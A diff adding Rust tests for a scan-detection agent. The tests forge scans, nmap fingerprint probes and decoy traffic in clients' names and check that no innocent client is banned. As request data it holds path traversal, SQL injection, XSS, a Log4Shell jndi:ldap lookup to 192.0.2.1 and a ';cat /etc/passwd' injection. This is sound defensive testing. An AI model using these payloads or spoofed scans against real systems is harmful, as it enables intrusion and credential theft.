@@ -1,0 +1,531 @@
+//! Evidence in other people's names. Whatever is forged, the client in whose name it is goes on being served and is not
+//! banned; what is forged may shield its address, which costs a client nothing.
+
+use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
+
+use anyhow::Result;
+use scanguard_common::wire::{protocol, tcp_flags::*};
+
+use super::{
+    DEFAULT, Expect, Play, Position, Role, Row,
+    bridge::{Family, SERVER, SERVER6},
+    client::request,
+    control::SCANNER,
+    forge::{Forger, JUNK, Segment},
+    outcome::Verdict,
+    scene::{OPEN, Scene, Target},
+};
+use crate::frames;
+
+/// ECN-Echo and Congestion Window Reduced (RFC 3168).
+const ECN: u8 = 0xc0;
+/// Where nobody listens.
+const CLOSED: u16 = 1_000;
+
+const fn forged(name: &'static str, attack: fn(&Forger<'_>, &Target) -> Result<()>) -> Row {
+    Row {
+        name,
+        role: Role::Forger,
+        position: Position::OffPath,
+        must: "the client is served before, during and after, and not banned",
+        expect: Expect::Holds,
+        config: DEFAULT,
+        slow: false,
+        play: Play::InTheirNames(attack),
+    }
+}
+
+/// In the place of the rule of what it must hold.
+const fn script(name: &'static str, must: &'static str, play: fn(&mut Scene<'_>) -> Result<Verdict>) -> Row {
+    Row::script(Role::Forger, name, must, play).from(Position::OffPath)
+}
+
+/// Bans also on evidence that anybody can forge.
+const SPOOFABLE: &str = "allow_spoofable = true";
+
+pub(super) const ROWS: &[Row] = &[
+    forged("NULL segments", |forger, target| flags(forger, target, &[0])),
+    forged("FIN segments", |forger, target| flags(forger, target, &[FIN])),
+    forged("Xmas segments", |forger, target| flags(forger, target, &[FIN | PSH | URG])),
+    forged("SYN+FIN, SYN+RST and other odd flags", |forger, target| {
+        flags(forger, target, &[SYN | FIN, SYN | RST, FIN | URG, PSH, URG, CLASSIC, SYN | FIN | ECN])
+    }),
+    forged("SYNs to 30 closed ports", |forger, target| syns(forger, target, (0..30).map(|n| CLOSED + 37 * n))),
+    forged("SYNs to nine ports one after another, as the sequential test counts", |forger, target| {
+        syns(forger, target, CLOSED..CLOSED + 10)
+    }),
+    forged("SYNs to closed ports with ECN, and with data", |forger, target| {
+        for port in CLOSED..CLOSED + 30 {
+            let segment = Segment { flags: SYN | ECN, sequence: JUNK, acknowledgment: 0, data: b"hello" };
+            forger.tcp(target.from(40_000), target.to(port), &segment)?;
+        }
+        Ok(())
+    }),
+    forged("ACK segments of no connection to 30 closed ports", |forger, target| {
+        strays(forger, target, ACK, b"")
+    }),
+    forged("the same with data", |forger, target| strays(forger, target, ACK | PSH, b"data")),
+    forged("Maimon segments (FIN+ACK) to 30 closed ports", |forger, target| {
+        strays(forger, target, FIN | ACK, b"")
+    }),
+    forged("SYN+ACK segments to 30 closed ports", |forger, target| strays(forger, target, SYN | ACK, b"")),
+    forged("RST segments to 30 ports", |forger, target| strays(forger, target, RST, b"")),
+    forged("21 empty UDP datagrams to closed ports", |forger, target| datagrams(forger, target, b"")),
+    forged("21 UDP datagrams with data to closed ports", |forger, target| datagrams(forger, target, b"hello")),
+    forged("SCTP INIT to 20 ports", |forger, target| {
+        for port in CLOSED..CLOSED + 20 {
+            forger.ip(target.client.ip(), target.server.ip(), SCTP, &frames::sctp(port, 1))?;
+        }
+        Ok(())
+    }),
+    forged("SCTP COOKIE-ECHO to 20 ports", |forger, target| {
+        for port in CLOSED..CLOSED + 20 {
+            forger.ip(target.client.ip(), target.server.ip(), SCTP, &frames::sctp(port, 10))?;
+        }
+        Ok(())
+    }),
+    forged("40 IP protocols", |forger, target| {
+        for number in 140..180 {
+            forger.ip(target.client.ip(), target.server.ip(), number, &[])?;
+        }
+        Ok(())
+    }),
+    forged("fragments too small for their header", |forger, target| {
+        for port in CLOSED..CLOSED + 10 {
+            let segment = super::forge::tcp(target.from(40_000), target.to(port), &Segment::junk(SYN))?;
+            let (first, rest) = segment.split_at(8);
+            forger.fragment(target.client.ip(), target.server.ip(), protocol::TCP, (0, true), first)?;
+            forger.fragment(target.client.ip(), target.server.ip(), protocol::TCP, (1, false), rest)?;
+        }
+        Ok(())
+    }),
+    forged("ICMP echo, timestamp, address mask and information requests", |forger, target| {
+        let (number, kinds): (u8, &[u8]) = match target.family {
+            Family::V4 => (protocol::ICMP, &[8, 13, 15, 17]),
+            Family::V6 => (protocol::ICMPV6, &[128, 139]),
+        };
+        for kind in kinds.iter().cycle().take(20) {
+            forger.ip(target.client.ip(), target.server.ip(), number, &frames::icmp(*kind))?;
+        }
+        Ok(())
+    }),
+    forged("the probes of nmap -O", fingerprint),
+    forged("handshakes with 12 open ports, aborted", |forger, target| {
+        for _ in 0..2 {
+            for (n, port) in (0..).zip(OPEN) {
+                let end = target.from(41_000 + n);
+                forger.tcp(end, target.to(port), &Segment { acknowledgment: 0, ..Segment::junk(SYN) })?;
+                forger.tcp(end, target.to(port), &Segment { sequence: JUNK + 1, ..Segment::junk(RST) })?;
+            }
+        }
+        Ok(())
+    }),
+    forged("handshakes with 12 open ports, said to be complete by junk numbers, then NULL segments", |forger, target| {
+        for (n, port) in (0..).zip(OPEN) {
+            let end = target.from(42_000 + n);
+            forger.tcp(end, target.to(port), &Segment { acknowledgment: 0, ..Segment::junk(SYN) })?;
+            forger.tcp(end, target.to(port), &Segment { sequence: JUNK + 1, ..Segment::junk(ACK) })?;
+            forger.tcp(end, target.to(port), &Segment { sequence: JUNK + 1, ..Segment::junk(FIN | ACK) })?;
+        }
+        flags(forger, target, &[0])
+    }),
+    forged("a junk FIN+ACK in the client's connection, then NULL segments", |forger, target| {
+        within(forger, target, FIN | ACK)
+    }),
+    forged("a junk ACK in the client's connection, then NULL segments", |forger, target| within(forger, target, ACK)),
+    forged("a junk RST in the client's connection, then NULL segments", |forger, target| within(forger, target, RST)),
+    forged("a scanner's request in the client's connection, with junk numbers", |forger, target| {
+        say(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Junk)
+    }),
+    forged("the same with the right sequence number and a junk acknowledgment", |forger, target| {
+        say(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Sequence)
+    }),
+    forged("the same with the right acknowledgment and a junk sequence number", |forger, target| {
+        say(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Acknowledgment)
+    }),
+    forged("the same just below and far above the window", |forger, target| {
+        say(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Off(0_u32.wrapping_sub(600)))?;
+        say(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Off(1 << 30))
+    }),
+    forged("400 paths of a wordlist in the client's connection, with junk numbers", |forger, target| {
+        let requests: Vec<_> = (0..400).map(|n| request(&format!("/word{n}"), None, true)).collect();
+        say(forger, target, &requests, |_| Numbered::Junk)
+    }),
+    forged("paths by which ways in are looked for, likewise", |forger, target| {
+        let paths = ["/.env", "/.git/config", "/wp-config.php.bak", "/.aws/credentials", "/phpmyadmin/", "/actuator/env"];
+        say(forger, target, &paths.map(|path| request(path, None, true)), |_| Numbered::Junk)
+    }),
+    forged("injections and ways out of the directory, likewise", |forger, target| {
+        let paths = [
+            "/../../../../etc/passwd",
+            "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--",
+            "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
+            "/?x=$%7Bjndi:ldap://192.0.2.1/a%7D",
+            "/?c=;cat%20/etc/passwd",
+        ];
+        let requests: Vec<_> = paths.iter().cycle().take(20).map(|path| request(path, None, true)).collect();
+        say(forger, target, &requests, |_| Numbered::Junk)
+    }),
+    forged("60 names of hosts, likewise", |forger, target| {
+        let requests: Vec<_> = (0..60)
+            .map(|n| format!("GET / HTTP/1.1\r\nHost: word{n}.shop.test\r\nUser-Agent: Mozilla/5.0\r\n\r\n").into_bytes())
+            .collect();
+        say(forger, target, &requests, |_| Numbered::Junk)
+    }),
+    forged("TLS hellos of 20 kinds, likewise", |forger, target| {
+        let hellos: Vec<_> = (0..20).map(hello).collect();
+        say(forger, target, &hellos, |_| Numbered::Junk)
+    }),
+    forged("answers of the server in the client's name: 404 to all", |forger, target| {
+        let answers = vec![b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n".to_vec(); 60];
+        say(forger, target, &answers, |_| Numbered::Junk)
+    }),
+    forged("DNS queries for the version, for ANY and for transfers", |forger, target| {
+        for (n, (name, kind, class)) in [("version.bind", 16, 3), ("shop.test", 255, 1), ("shop.test", 252, 1)]
+            .into_iter()
+            .cycle()
+            .take(12)
+            .enumerate()
+        {
+            forger.udp(target.from(43_000 + u16::try_from(n)?), target.to(53), &query(name, kind, class))?;
+        }
+        Ok(())
+    }),
+    forged("DNS queries for 80 names", |forger, target| {
+        for n in 0..80 {
+            forger.udp(target.from(44_000 + n), target.to(53), &query(&format!("word{n}.shop.test"), 1, 1))?;
+        }
+        Ok(())
+    }),
+    forged("a flood of UDP and SYNs, one of each kind of scan at once", |forger, target| {
+        flags(forger, target, &[0, FIN, FIN | PSH | URG, SYN | FIN])?;
+        syns(forger, target, CLOSED..CLOSED + 30)?;
+        datagrams(forger, target, b"")?;
+        strays(forger, target, ACK, b"")?;
+        fingerprint(forger, target)
+    }),
+    script(
+        "NULL segments in the names of 20 clients at once, as those of a CDN",
+        "each of the clients is served and none is banned",
+        many_clients,
+    ),
+    script(
+        "NULL segments from ::ffff:a.b.c.d against the IPv4 client a.b.c.d",
+        "the IPv4 client is served and not banned; no finding is about it; the packets are counted as bad_source",
+        mapped,
+    ),
+    script(
+        "sources that no host has: multicast, unspecified, loopback, the server's own",
+        "the packets are counted as bad_source; nobody is accused of them",
+        bad_sources,
+    ),
+    script(
+        "a scan with decoys: the clients' addresses among the scanner's",
+        "the clients are served and not banned",
+        decoys,
+    ),
+    script(
+        "with allow_spoofable: NULL segments and SYNs in the name of a client that has had connections",
+        "it is served and not banned, since it has been a client",
+        spoofable_client,
+    )
+    .with(SPOOFABLE, ""),
+    script(
+        "with allow_spoofable: the same of an address that never connected",
+        "it is banned: this is what the option asks for",
+        spoofable_stranger,
+    )
+    .with(SPOOFABLE, ""),
+    forged("a scanner's request in the client's connection, with its right numbers", |forger, target| {
+        say(forger, target, &[request("/", Some(SCANNER), true)], |_| Numbered::Right)
+    })
+    .from(Position::OnPath)
+    .limit(
+        "somebody on the path who knows both numbers speaks within the connection: the server's TCP accepts it as the client's own \
+         words, and no sensor on the server can tell the two apart. TLS and the server's access log are the way out",
+    ),
+];
+
+/// SCTP (RFC 9260).
+const SCTP: u8 = 132;
+
+/// Twelve segments with these flags, by turns, to closed ports and to an open one.
+fn flags(forger: &Forger<'_>, target: &Target, flags: &[u8]) -> Result<()> {
+    for (n, flags) in (0..12).zip(flags.iter().cycle()) {
+        let port = if n % 4 == 3 { target.server.port() } else { CLOSED + n };
+        forger.tcp(target.from(40_000 + n), target.to(port), &Segment::junk(*flags))?;
+    }
+    Ok(())
+}
+
+fn syns(forger: &Forger<'_>, target: &Target, ports: impl IntoIterator<Item = u16>) -> Result<()> {
+    for port in ports {
+        forger.tcp(
+            target.from(40_000),
+            target.to(port),
+            &Segment { acknowledgment: 0, ..Segment::junk(SYN) },
+        )?;
+    }
+    Ok(())
+}
+
+fn strays(forger: &Forger<'_>, target: &Target, flags: u8, data: &[u8]) -> Result<()> {
+    for port in CLOSED..CLOSED + 30 {
+        forger.tcp(target.from(40_000), target.to(port), &Segment { data, ..Segment::junk(flags) })?;
+    }
+    Ok(())
+}
+
+fn datagrams(forger: &Forger<'_>, target: &Target, data: &[u8]) -> Result<()> {
+    for port in CLOSED..CLOSED + 21 {
+        forger.udp(target.from(40_000), target.to(port), data)?;
+    }
+    Ok(())
+}
+
+/// What nmap sends to an open port and to a closed one, twice.
+fn fingerprint(forger: &Forger<'_>, target: &Target) -> Result<()> {
+    let open = target.server.port();
+    let kinds = [
+        (open, SYN),
+        (open, SYN | ECN),
+        (open, 0),
+        (open, SYN | FIN | URG | PSH),
+        (open, ACK),
+        (CLOSED, SYN),
+        (CLOSED, ACK),
+        (CLOSED, FIN | PSH | URG),
+    ];
+    let (number, echo) = match target.family {
+        Family::V4 => (protocol::ICMP, 8),
+        Family::V6 => (protocol::ICMPV6, 128),
+    };
+    for round in 0..2 {
+        for (n, (port, flags)) in (0..).zip(kinds) {
+            forger.tcp(target.from(45_000 + 10 * round + n), target.to(port), &Segment::junk(flags))?;
+        }
+        forger.udp(target.from(45_100), target.to(CLOSED), &[b'C'; 300])?;
+        for _ in 0..2 {
+            forger.ip(target.client.ip(), target.server.ip(), number, &frames::icmp(echo))?;
+        }
+    }
+    Ok(())
+}
+
+/// A junk segment in the connection, then evidence that would ban a source that is known to be no forgery.
+fn within(forger: &Forger<'_>, target: &Target, kind: u8) -> Result<()> {
+    forger.tcp(target.client, target.server, &Segment::junk(kind))?;
+    flags(forger, target, &[0])
+}
+
+/// Which numbers of the connection are right.
+#[derive(Clone, Copy, Debug, Eq, PartialEq)]
+enum Numbered {
+    /// None.
+    Junk,
+    /// The first.
+    Sequence,
+    /// The second.
+    Acknowledgment,
+    /// The second, and the first is so far from being right.
+    Off(u32),
+    /// Both.
+    Right,
+}
+
+/// Says something in the client's connection.
+fn say(
+    forger: &Forger<'_>,
+    target: &Target,
+    what: &[Vec<u8>],
+    numbered: fn(&Target) -> Numbered,
+) -> Result<()> {
+    for data in what {
+        let mut segment = Segment::saying(data);
+        if let Some(numbers) = target.numbers {
+            (segment.sequence, segment.acknowledgment) = match numbered(target) {
+                Numbered::Junk => (JUNK, JUNK),
+                // Beyond what a stack takes for an old acknowledgment.
+                Numbered::Sequence => (numbers.next, numbers.awaited.wrapping_add(1 << 30)),
+                Numbered::Acknowledgment => (numbers.next.wrapping_add(1 << 31), numbers.awaited),
+                Numbered::Off(by) => (numbers.next.wrapping_add(by), numbers.awaited),
+                Numbered::Right => (numbers.next, numbers.awaited),
+            };
+        }
+        forger.tcp(target.client, target.server, &segment)?;
+    }
+    Ok(())
+}
+
+/// A hello of TLS 1.2 with ciphers of its own kind.
+fn hello(kind: u8) -> Vec<u8> {
+    let ciphers: Vec<u8> = (0..=kind).flat_map(|n| [0xc0, 0x10 + n]).collect();
+    let mut body = vec![3, 3];
+    body.extend([kind; 32]);
+    body.push(0);
+    body.extend(u16::try_from(ciphers.len()).unwrap_or(0).to_be_bytes());
+    body.extend(ciphers);
+    body.extend([1, 0]);
+    let length = u16::try_from(body.len()).unwrap_or(0);
+    let mut record = vec![22, 3, 1];
+    record.extend((length + 4).to_be_bytes());
+    record.extend([1, 0]);
+    record.extend(length.to_be_bytes());
+    record.extend(body);
+    record
+}
+
+/// A query of one name.
+fn query(name: &str, kind: u16, class: u16) -> Vec<u8> {
+    let mut message = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
+    for label in name.split('.') {
+        message.push(u8::try_from(label.len()).unwrap_or(0));
+        message.extend(label.as_bytes());
+    }
+    message.push(0);
+    message.extend(kind.to_be_bytes());
+    message.extend(class.to_be_bytes());
+    message
+}
+
+/// A target without a connection.
+fn stranger(family: Family, client: IpAddr) -> Target {
+    Target { family, client: SocketAddr::new(client, 40_000), server: Scene::web(family), numbers: None }
+}
+
+fn many_clients(scene: &mut Scene<'_>) -> Result<Verdict> {
+    let clients =
+        || Family::BOTH.into_iter().flat_map(|family| (21..41).map(move |n| (family, family.client(n))));
+    let ((), bystander) = scene.beside_a_bystander(|scene| {
+        for (family, client) in clients() {
+            scene.served(client, family)?;
+        }
+        for (family, client) in clients() {
+            flags(&scene.forger, &stranger(family, client), &[0])?;
+        }
+        scene.judged()
+    })?;
+    let mut wrong: Vec<String> = bystander.into_iter().collect();
+    for (family, client) in clients() {
+        wrong.extend(scene.wrongs(client, family)?);
+        // Who is banned waits long for an answer.
+        if wrong.len() >= 3 {
+            break;
+        }
+    }
+    Ok(Verdict::of(&wrong))
+}
+
+fn mapped(scene: &mut Scene<'_>) -> Result<Verdict> {
+    let client = Ipv4Addr::new(10, 66, 1, 13);
+    scene.served(client.into(), Family::V4)?;
+    scene.served(client.into(), Family::V4)?;
+    let before = scene.agent.metrics()?.exit("bad_source");
+    let from = SocketAddr::new(client.to_ipv6_mapped().into(), 40_000);
+    for port in CLOSED..CLOSED + 20 {
+        let to = SocketAddr::new(SERVER6.into(), port);
+        for flags in [0, SYN, FIN | PSH | URG] {
+            scene.forger.tcp(from, to, &Segment::junk(flags))?;
+        }
+    }
+    scene.judged()?;
+    let counted = scene.agent.metrics()?.exit("bad_source") - before;
+    let mut wrong: Vec<_> = scene.wrongs(client.into(), Family::V4)?.into_iter().collect();
+    let rules = scene.rules(client.into());
+    if !rules.is_empty() {
+        wrong.push(format!("findings about {client}: {}", rules.join(", ")));
+    }
+    let sent = scene.forger.sent();
+    if counted < f64::from(sent) {
+        wrong.push(format!("{counted} of {sent} packets were counted as bad_source"));
+    }
+    Ok(Verdict::of(&wrong))
+}
+
+fn bad_sources(scene: &mut Scene<'_>) -> Result<Verdict> {
+    let before = scene.agent.metrics()?.exit("bad_source");
+    let sources: [IpAddr; 11] = [
+        Ipv4Addr::new(224, 0, 0, 1).into(),
+        Ipv4Addr::new(239, 1, 2, 3).into(),
+        Ipv4Addr::BROADCAST.into(),
+        Ipv4Addr::UNSPECIFIED.into(),
+        Ipv4Addr::new(127, 0, 0, 1).into(),
+        SERVER.into(),
+        Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1).into(),
+        Ipv6Addr::new(0xff0e, 0, 0, 0, 0, 0, 0, 7).into(),
+        Ipv6Addr::UNSPECIFIED.into(),
+        Ipv6Addr::LOCALHOST.into(),
+        SERVER6.into(),
+    ];
+    for source in sources {
+        let family = if source.is_ipv4() { Family::V4 } else { Family::V6 };
+        let target = stranger(family, source);
+        flags(&scene.forger, &target, &[0, FIN | PSH | URG, SYN | FIN])?;
+        syns(&scene.forger, &target, CLOSED..CLOSED + 30)?;
+        datagrams(&scene.forger, &target, b"")?;
+    }
+    scene.judged()?;
+    let counted = scene.agent.metrics()?.exit("bad_source") - before;
+    let mut wrong = Vec::new();
+    for finding in scene.agent.findings() {
+        wrong.push(format!("{} accuses {}", finding["rule"], finding["source"]["ip"]));
+    }
+    wrong.dedup();
+    let sent = scene.forger.sent();
+    if counted < f64::from(sent) {
+        wrong.push(format!("{counted} of {sent} packets were counted as bad_source"));
+    }
+    Ok(Verdict::of(&wrong))
+}
+
+fn decoys(scene: &mut Scene<'_>) -> Result<Verdict> {
+    let clients =
+        || Family::BOTH.into_iter().flat_map(|family| (21..25).map(move |n| (family, family.client(n))));
+    let ((), bystander) = scene.beside_a_bystander(|scene| {
+        for (family, client) in clients() {
+            scene.served(client, family)?;
+        }
+        for family in Family::BOTH {
+            // As nmap -D does: each port from the scanner and from each decoy.
+            for port in CLOSED..CLOSED + 60 {
+                let sources = (21..25).map(|n| family.client(n)).chain([family.attacker(1)]);
+                for source in sources {
+                    syns(&scene.forger, &stranger(family, source), [port])?;
+                }
+            }
+        }
+        scene.judged()
+    })?;
+    let mut wrong: Vec<String> = bystander.into_iter().collect();
+    for (family, client) in clients() {
+        wrong.extend(scene.wrongs(client, family)?);
+    }
+    Ok(Verdict::of(&wrong))
+}
+
+fn spoofable_client(scene: &mut Scene<'_>) -> Result<Verdict> {
+    let mut wrong = Vec::new();
+    for family in Family::BOTH {
+        let client = family.client(13);
+        scene.served(client, family)?;
+        scene.judged()?;
+        let target = stranger(family, client);
+        flags(&scene.forger, &target, &[0])?;
+        syns(&scene.forger, &target, CLOSED..CLOSED + 30)?;
+        scene.judged()?;
+        wrong.extend(scene.wrongs(client, family)?);
+    }
+    Ok(Verdict::of(&wrong))
+}
+
+fn spoofable_stranger(scene: &mut Scene<'_>) -> Result<Verdict> {
+    let mut wrong = Vec::new();
+    for family in Family::BOTH {
+        let source = family.attacker(40);
+        flags(&scene.forger, &stranger(family, source), &[0])?;
+        if !scene.is_banned_soon(source)? {
+            wrong.push(format!("{source} is not banned; its findings: {}", scene.rules(source).join(", ")));
+        }
+    }
+    Ok(Verdict::of(&wrong))
+}
